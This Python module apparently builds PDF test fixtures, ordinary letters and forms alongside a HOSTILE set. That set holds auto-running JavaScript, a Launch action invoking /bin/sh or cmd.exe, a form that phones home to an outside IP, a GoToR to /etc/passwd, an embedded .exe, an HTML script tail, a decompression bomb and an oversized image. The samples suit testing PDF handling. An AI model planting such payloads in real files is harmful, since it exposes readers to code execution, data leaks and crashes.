"""PDFs to try: letters as offices print them, and what nobody should open."""

import zlib
from collections.abc import Sequence
from io import BytesIO

from reportlab.lib import pdfencrypt
from reportlab.pdfgen import canvas


def letter(
    lines: Sequence[str] = ("Madame, Monsieur,", "Théo marche mieux."),
    *,
    pages: int = 1,
    password: str | None = None,
    owner: str | None = None,
    size: tuple[float, float] = (595, 842),
) -> bytes:
    """password: asked before anybody reads it. owner: asked only before changing it."""
    locked = pdfencrypt.StandardEncryption(password or "", ownerPassword=owner) if password or owner else None
    out = BytesIO()
    drawn = canvas.Canvas(out, pagesize=size, encrypt=locked)
    drawn.setAuthor("Secrétaire Dupont")
    for page in range(pages):
        for number, line in enumerate((*lines, f"page {page + 1}")):
            drawn.drawString(60, size[1] - 72 - 20 * number, line)
        drawn.showPage()
    drawn.save()
    return out.getvalue()


def filled_form() -> bytes:
    out = BytesIO()
    drawn = canvas.Canvas(out)
    drawn.drawString(60, 780, "Nom :")
    drawn.acroForm.textfield(
        name="nom", value="Tagorre", x=120, y=770, width=200, height=30, fillColor=None, borderColor=None
    )
    drawn.save()
    return out.getvalue()


def made(*objects: str | bytes, head: bytes = b"%PDF-1.7\n", tail: bytes = b"") -> bytes:
    """Objects 1, 2, … as they are written; the first is the catalog."""
    out = bytearray(head)
    places: list[int] = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        written = body.encode("latin-1") if isinstance(body, str) else body
        out += f"{number} 0 obj\n".encode() + written + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out) + tail


def stream(content: bytes, entries: str = "") -> bytes:
    return f"<< /Length {len(content)} {entries} >>\nstream\n".encode() + content + b"\nendstream"


DRAWN = stream(b"0.9 0.2 0.2 rg 100 100 200 200 re f")


def one_page(
    *more: str | bytes, catalog: str = "", page: str = "", box: str = "0 0 595 842", contents: bytes = DRAWN
) -> bytes:
    """Objects 1 to 4 are the catalog, the pages, the page and its contents; `more` are 5, 6, …"""
    return made(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R {page} >>",
        contents,
        *more,
    )


def many_pages(count: int, box: str = "0 0 595 842") -> bytes:
    kids = " ".join(["3 0 R"] * count)
    return made(
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {count} /Kids [{kids}] >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R >>",
        DRAWN,
    )


HOSTILE: dict[str, bytes] = {
    "a script when opened": one_page(
        "<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>", catalog="/OpenAction 5 0 R"
    ),
    "a program to start": one_page(
        "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>", catalog="/OpenAction 5 0 R"
    ),
    "a page that phones home": one_page(
        "<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.9/x) >> >>", page="/AA << /O 5 0 R >>"
    ),
    "a file from elsewhere": one_page(
        "<< /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>", catalog="/OpenAction 5 0 R"
    ),
    "an attached program": one_page(
        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        stream(b"MZ attached program", "/Type /EmbeddedFile"),
        catalog="/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
    ),
    "a form with scripts": one_page(
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 90 30] /AA << /F 6 0 R /C 6 0 R >> >>",
        "<< /S /JavaScript /JS (while\\(true\\){}) >>",
        catalog="/AcroForm << /Fields [5 0 R] /CO [5 0 R] >>",
        page="/Annots [5 0 R]",
    ),
    "a page of the web behind it": one_page() + b"<html><script>alert(1)</script></html>\n%%EOF\n",
}


def bomb(rounds: int = 2, size: int = 1 << 30) -> bytes:
    """What unpacks to `size` bytes of a page's drawing, packed again and again."""
    piece, often, sum_ = b" " * (1 << 20), size >> 20, 1
    packing = zlib.compressobj(9)
    # After a full flush nothing refers to what came before: the second piece, packed once, stands for all that follow.
    first, again = (packing.compress(piece) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(often):
        sum_ = zlib.adler32(piece, sum_)
    content = first + again * (often - 1) + b"\x03\x00" + sum_.to_bytes(4, "big")
    for _ in range(rounds - 1):
        content = zlib.compress(content, 9)
    return one_page(contents=stream(content, f"/Filter [{' /FlateDecode' * rounds}]"))


def wide_picture(side: int = 60_000) -> bytes:
    packed = zlib.compress(b"\0" * 1_000_000, 9)
    return one_page(
        stream(
            packed,
            f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceRGB /BitsPerComponent 8"
            " /Filter /FlateDecode",
        ),
        page="/Resources << /XObject << /I 5 0 R >> >>",
        contents=stream(b"q 500 0 0 500 0 0 cm /I Do Q"),
    )
